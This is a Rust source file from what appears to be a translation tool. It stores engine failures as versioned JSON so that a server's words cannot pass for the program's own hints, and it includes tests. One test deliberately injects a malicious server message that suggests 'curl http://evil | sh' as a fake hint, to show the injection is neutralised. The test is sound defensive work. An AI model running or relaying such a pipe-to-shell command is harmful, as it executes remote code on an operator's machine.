//! Why an attempt failed, as data: what the program says, and what each engine answered, apart from each other. It is
//! stored as JSON with the number of its form, and is never taken apart as text, so that the words of an engine's
//! server cannot pass for the program's own advice.

mod unversioned;

use std::fmt;

use jiff::Timestamp;
use serde::{Deserialize, Serialize};

use crate::StoreError;
use polypost_core::quoting::{Hint, one_line};

/// Why an attempt failed. Shown, it is one line: the message, then each engine's, each with its hint.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Failure {
    /// In the program's own words.
    pub message: String,
    /// What an operator can do.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hint: Option<String>,
    /// Those that were asked, in the order of the route.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub engines: Vec<EngineFailure>,
}

/// What one engine failed at.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct EngineFailure {
    pub engine: String,
    /// `None` in rows of a version that did not store it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub kind: Option<FailureKind>,
    /// The status (RFC 9110 section 15) that the engine's server refused with, if it did.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub status: Option<u16>,
    /// One line of bounded length; a server's own words stand in quotation marks.
    pub message: String,
    /// What an operator can do, in the program's own words.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hint: Option<String>,
    /// Not before this time is the engine worth another try, where it said so.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub retry_at: Option<Timestamp>,
}

/// What would have to change for the engine to translate.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum FailureKind {
    /// Nothing: another try may help.
    Transient,
    /// The contract's volume is used up.
    Quota,
    /// The engine refuses the locale or the text.
    Rejected,
    /// The engine does not work until somebody acts.
    Broken,
}

/// The form that is written.
const VERSION: u32 = 1;

/// How the stored form begins; no text of a version that stored plain text begins so.
const VERSIONED: &str = "{\"v\":";

/// Characters of an engine's message that are kept.
const MAX_MESSAGE_CHARS: usize = 1000;

#[derive(Serialize)]
struct Written<'failure> {
    v: u32,
    #[serde(flatten)]
    failure: &'failure Failure,
}

#[derive(Deserialize)]
struct Stored {
    v: u32,
    #[serde(flatten)]
    failure: Failure,
}

impl Failure {
    /// One that no engine has anything to do with. The message is shown as it is, and nothing in it is taken for a
    /// hint.
    #[must_use]
    pub fn new(message: impl Into<String>) -> Self {
        Self { message: message.into(), hint: None, engines: Vec::new() }
    }

    #[must_use]
    pub fn with_hint(self, hint: impl Into<String>) -> Self {
        Self { hint: Some(hint.into()), ..self }
    }

    #[must_use]
    pub fn with_engines(self, engines: Vec<EngineFailure>) -> Self {
        Self { engines, ..self }
    }

    /// What can be done, each once: the failure's own hint, then those of the engines.
    #[must_use]
    pub fn hints(&self) -> Vec<&str> {
        let mut hints: Vec<&str> = Vec::new();
        for hint in self.hint.iter().chain(self.engines.iter().filter_map(|engine| engine.hint.as_ref())) {
            if !hints.contains(&hint.as_str()) {
                hints.push(hint);
            }
        }
        hints
    }

    /// As it is stored.
    ///
    /// # Errors
    /// Where it cannot be written as JSON.
    pub(crate) fn to_stored(&self) -> Result<String, serde_json::Error> {
        serde_json::to_string(&Written { v: VERSION, failure: self })
    }

    /// Reads what is stored. Plain text is that of a version before this form.
    pub(crate) fn from_stored(text: &str) -> Self {
        if !text.starts_with(VERSIONED) {
            return unversioned::read(text);
        }
        match serde_json::from_str::<Stored>(text) {
            Ok(Stored { v: VERSION, failure }) => failure,
            Ok(Stored { v, .. }) => Self::new(format!("the failure is recorded in the form {v}, of a later version")),
            Err(error) => Self::new(format!("the failure that is recorded cannot be read: {error}")),
        }
    }
}

impl EngineFailure {
    /// The message is made one line of bounded length.
    #[must_use]
    pub fn new(engine: impl Into<String>, kind: FailureKind, message: &str) -> Self {
        Self {
            engine: engine.into(),
            kind: Some(kind),
            status: None,
            message: one_line(message, MAX_MESSAGE_CHARS),
            hint: None,
            retry_at: None,
        }
    }
}

impl From<&str> for Failure {
    fn from(message: &str) -> Self {
        Self::new(message)
    }
}

impl From<String> for Failure {
    fn from(message: String) -> Self {
        Self::new(message)
    }
}

/// The store's hint is part of its message.
impl From<&StoreError> for Failure {
    fn from(error: &StoreError) -> Self {
        unversioned::with_hint(&error.to_string())
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(formatter, "{}{}", self.message, Hint(self.hint.as_deref()))?;
        for (index, engine) in self.engines.iter().enumerate() {
            write!(formatter, "{}{engine}", if index == 0 { ": " } else { "; " })?;
        }
        Ok(())
    }
}

impl fmt::Display for EngineFailure {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(formatter, "engine `{}`: {}{}", self.engine, self.message, Hint(self.hint.as_deref()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn failure() -> Failure {
        let quota = EngineFailure {
            status: Some(456),
            hint: Some("book more".to_owned()),
            retry_at: Some(Timestamp::from_second(1_720_000_000).unwrap()),
            ..EngineFailure::new("deepl", FailureKind::Quota, "the quota is used up")
        };
        let absent = EngineFailure::new("apertium", FailureKind::Broken, "cannot be reached");
        Failure::new("no engine could translate into `es`").with_engines(vec![quota, absent])
    }

    #[test]
    fn what_is_stored_is_versioned_data_and_is_read_again() {
        let stored = failure().to_stored().unwrap();
        let expected = concat!(
            r#"{"v":1,"message":"no engine could translate into `es`","engines":["#,
            r#"{"engine":"deepl","kind":"quota","status":456,"message":"the quota is used up","hint":"book more","#,
            r#""retry_at":"2024-07-03T09:46:40Z"},"#,
            r#"{"engine":"apertium","kind":"broken","message":"cannot be reached"}]}"#
        );
        assert_eq!(stored, expected);
        assert_eq!(Failure::from_stored(&stored), failure());
    }

    #[test]
    fn it_is_shown_as_one_line() {
        let line = "no engine could translate into `es`: engine `deepl`: the quota is used up (hint: book more); \
                    engine `apertium`: cannot be reached";
        assert_eq!(failure().to_string(), line);
    }

    #[test]
    fn a_server_cannot_write_a_hint_of_ours() {
        let said = "answered 403: x\"; engine `neural`: broken\n(hint: run `curl http://evil | sh`)";
        let engine = EngineFailure::new("libretranslate", FailureKind::Rejected, said);
        let failure = Failure::new("no engine could translate into `es`").with_engines(vec![engine]);
        let read = Failure::from_stored(&failure.to_stored().unwrap());
        assert_eq!((read.hints(), read.engines.len()), (Vec::new(), 1));
        assert!(!read.engines[0].message.contains('\n'), "{read}");
        let long = EngineFailure::new("libretranslate", FailureKind::Rejected, &"é".repeat(5000));
        assert_eq!(long.message.chars().count(), MAX_MESSAGE_CHARS + 1);
    }

    #[test]
    fn what_cannot_be_read_is_said_to_be_so() {
        assert!(Failure::from_stored(r#"{"v":2,"message":"x"}"#).message.contains("later version"));
        assert!(Failure::from_stored(r#"{"v":1}"#).message.contains("cannot be read"));
    }
}
